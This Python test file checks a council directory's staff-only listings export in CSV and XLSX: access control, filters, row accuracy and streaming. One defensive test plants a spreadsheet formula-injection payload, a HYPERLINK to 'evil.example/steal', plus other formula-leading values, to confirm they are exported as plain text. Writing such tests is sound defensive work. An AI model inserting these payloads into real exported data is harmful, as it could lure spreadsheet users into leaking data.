"""The staff list of listings ("Open data" > "Listings") and its download, the listings
spreadsheet: council staff only, with the list's filters and search applied, every row checked
against the database, and nothing in it a spreadsheet would run as a formula."""

import pytest
from django.http import StreamingHttpResponse
from django.urls import reverse

from directory.models import ListingPage
from openref.spreadsheet import HEADERS, listing_rows
from tests.factories.directory import NEWCASTLE, ShortBreakServicePageFactory
from tests.helpers import (
    assert_denied,
    csv_rows,
    downloaded,
    postcode_in,
    xlsx_rows,
    xlsx_sheet,
    xlsx_text,
)

LISTINGS = reverse("openref_exports:listings")
RESULTS = reverse("openref_exports:listings_results")
FORMATS = ["csv", "xlsx"]
FORMULA = '=HYPERLINK("https://evil.example/steal","Click for details")'


@pytest.fixture
def listings(published, org_b):
    """The published directory (tests/openref/conftest.py), and one listing in Newcastle."""
    city = ShortBreakServicePageFactory(
        organisation=org_b, title="City holiday scheme", postcode=postcode_in("NE1 4")
    )
    return {**published, "city": city}


def export(client, export_format, **params) -> list[list]:
    body = downloaded(client.get(LISTINGS, {"export": export_format, **params}))
    return csv_rows(body) if export_format == "csv" else xlsx_rows(body)


def listing_ids(rows) -> set[str]:
    assert rows[0] == HEADERS
    return {row[HEADERS.index("Listing id")] for row in rows[1:]}


def rows_by_id(rows) -> dict[str, list]:
    return {row[HEADERS.index("Listing id")]: row for row in rows[1:]}


def ids_of(listings) -> set[str]:
    return {str(listing.uuid) for listing in listings}


@pytest.mark.parametrize("export_format", FORMATS)
def test_council_staff_download_every_listing_in_the_listings_spreadsheet(
    client, moderator, listings, export_format
):
    client.force_login(moderator)
    rows = export(client, export_format)
    assert rows[0] == HEADERS
    assert len(rows) == ListingPage.objects.count() + 1
    column = {header: index for index, header in enumerate(HEADERS)}
    by_id = {str(listing.uuid): listing for listing in ListingPage.objects.all()}
    assert listing_ids(rows) == set(by_id)
    for row in rows[1:]:
        listing = by_id[row[column["Listing id"]]]
        assert row[column["Name"]] == listing.title
        assert row[column["Kind"]] == listing.get_kind_display()
        assert row[column["Organisation name"]] == listing.organisation.name
        assert row[column["Organisation id"]] == str(listing.organisation.uuid)
        assert row[column["Postcode"]] == listing.postcode
        assert row[column["Summary"]] == listing.summary
        assert row[column["Youngest age"]] == str(listing.age_min)
        assert row[column["Last checked"]] == listing.status.assured_date.isoformat()
        days = "; ".join(listing.days.order_by("id").values_list("name", flat=True))
        assert row[column["Days"]] == days
    # Each kind's own fields, from its own table.
    pa, club, short_break = listings["pa"], listings["club"], listings["breaks"][0]
    assert rows_by_id(rows)[str(pa.uuid)][column["Employment"]] == pa.employment
    assert rows_by_id(rows)[str(pa.uuid)][column["Hours available a week"]] == str(
        pa.hours_available_per_week
    )
    assert rows_by_id(rows)[str(club.uuid)][column["Inclusion support"]] == club.inclusion_support
    assert rows_by_id(rows)[str(club.uuid)][column["Extra 1:1 worker"]] == "Yes"
    assert rows_by_id(rows)[str(club.uuid)][column["Shortest booking (hours)"]] == ""
    assert rows_by_id(rows)[str(short_break.uuid)][column["Shortest booking (hours)"]] == "5"
    # Row for row what the spreadsheet module writes (the format the import reads).
    written = list(listing_rows(ListingPage.objects.all()))
    assert rows == written


@pytest.mark.parametrize("export_format", FORMATS)
@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"kind": "inclusive_club"}, lambda: ListingPage.objects.filter(kind="inclusive_club")),
        ({"council": NEWCASTLE}, lambda: ListingPage.objects.filter(title="City holiday scheme")),
        ({"in_directory": "yes"}, lambda: ListingPage.objects.in_directory()),
        (
            {"in_directory": "no"},
            lambda: ListingPage.objects.filter(title__in=["Draft club", "Expired club"]),
        ),
        ({"q": "saturday CLUB"}, lambda: ListingPage.objects.filter(title__startswith="Saturday")),
        (
            {"kind": "short_break", "in_directory": "yes", "q": "club"},
            lambda: ListingPage.objects.in_directory().filter(title__startswith="Saturday club"),
        ),
    ],
    ids=["kind", "council", "in-directory", "not-in-directory", "search", "combined"],
)
def test_the_download_has_the_lists_filters_and_search_applied(
    client, moderator, listings, export_format, params, expected
):
    client.force_login(moderator)
    wanted = ids_of(expected())
    assert wanted and wanted != ids_of(ListingPage.objects.all())  # the filter picks some
    assert listing_ids(export(client, export_format, **params)) == wanted


def test_the_list_shows_its_filters_councils_by_name_and_download_buttons_keeping_them(
    client, moderator, listings
):
    client.force_login(moderator)
    response = client.get(LISTINGS, {"kind": "inclusive_club"})
    assert response.status_code == 200
    content = response.content.decode()
    assert "Friday youth club" in content and "City holiday scheme" not in content
    assert "Newcastle upon Tyne" in content  # the council filter, by name
    assert "Download CSV" in content and "Download XLSX" in content
    assert "kind=inclusive_club&amp;export=csv" in content
    assert "kind=inclusive_club&amp;export=xlsx" in content
    assert client.get(RESULTS, {"q": "City"}).status_code == 200


@pytest.mark.parametrize("role", ["provider_a", "family", "broker", "coordinator", None])
def test_only_council_staff_may_see_or_download_the_listings(client, request, listings, role):
    if role:
        client.force_login(request.getfixturevalue(role))
    for url, params in [
        (LISTINGS, {}),
        (RESULTS, {}),
        (LISTINGS, {"export": "csv"}),
        (LISTINGS, {"export": "xlsx"}),
        (RESULTS, {"export": "csv"}),
    ]:
        response = client.get(url, params)
        assert_denied(response)
        assert b"Saturday club" not in response.content


def test_the_open_data_menu_shows_to_council_staff_only(client, moderator, provider_a):
    client.force_login(moderator)
    home = client.get(reverse("wagtailadmin_home")).content.decode()
    assert "Open data" in home and LISTINGS in home
    client.force_login(provider_a)
    home = client.get(reverse("wagtailadmin_home")).content.decode()
    assert "Open data" not in home and LISTINGS not in home


def test_formula_like_text_is_never_a_formula_in_either_download(client, moderator, org_a):
    """Wagtail's own CSV export writes text as it is, and its XLSX turns only "=" text back
    from a formula; here every such text is plain text in both."""
    listing = ShortBreakServicePageFactory(
        organisation=org_a,
        title=FORMULA,
        summary="@SUM(1+1) A Saturday club for disabled children.",
        contact_phone="+44 191 498 0000",
        cost_notes="-2+3 for siblings",
        contact_name="\tTab at the start",
    )
    client.force_login(moderator)
    column = {header: index for index, header in enumerate(HEADERS)}
    fields = {
        "Name": listing.title,
        "Summary": listing.summary,
        "Contact phone": listing.contact_phone,
        "Cost notes": listing.cost_notes,
        "Contact name": listing.contact_name,
    }

    (row,) = csv_rows(downloaded(client.get(LISTINGS, {"export": "csv"})))[1:]
    for header, value in fields.items():
        assert row[column[header]] == "'" + value  # a leading apostrophe: shown as text
    assert row[column["Town"]] == "Hexham"  # ordinary text as it is

    body = downloaded(client.get(LISTINGS, {"export": "xlsx"}))
    assert "<f>" not in xlsx_text(body)  # no formula anywhere in the workbook
    sheet = xlsx_sheet(body)
    for header, value in fields.items():
        cell = sheet.cell(row=2, column=column[header] + 1)
        assert cell.value == value  # unchanged, so it imports again as it was
        assert cell.data_type == "s"  # a text cell
        assert cell.quotePrefix  # and stays text when edited in a spreadsheet


def test_the_csv_streams_and_the_spreadsheet_is_read_a_chunk_at_a_time(client, moderator, listings):
    client.force_login(moderator)
    response = client.get(LISTINGS, {"export": "csv"})
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Disposition"].startswith('attachment; filename="listings-')
    assert len(csv_rows(downloaded(response))) == ListingPage.objects.count() + 1
    everything = list(listing_rows(ListingPage.objects.all()))
    assert list(listing_rows(ListingPage.objects.all(), chunk=2)) == everything
